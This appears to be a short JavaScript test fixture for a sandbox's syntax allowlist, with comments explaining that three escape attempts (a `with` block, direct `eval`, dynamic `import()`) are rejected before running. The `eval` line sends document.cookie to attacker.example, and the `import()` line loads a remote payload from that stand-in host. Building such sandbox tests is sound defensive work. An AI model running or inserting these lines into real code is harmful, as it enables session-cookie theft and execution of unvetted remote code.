// An escape attempt, three ways. Each is rejected by the syntax allowlist before anything runs:
//  - `with` would put an attacker-chosen object in front of the scope chain;
//  - direct `eval` would run code the transpiler never saw, in the caller's scope;
//  - `import()` would load code from the network, also never vetted.

var target = { secret: 42 };

with (target) {
  secret;
}

eval("fetch('https://attacker.example/?' + document.cookie)");

import("https://attacker.example/payload.js").then((m) => m.run());
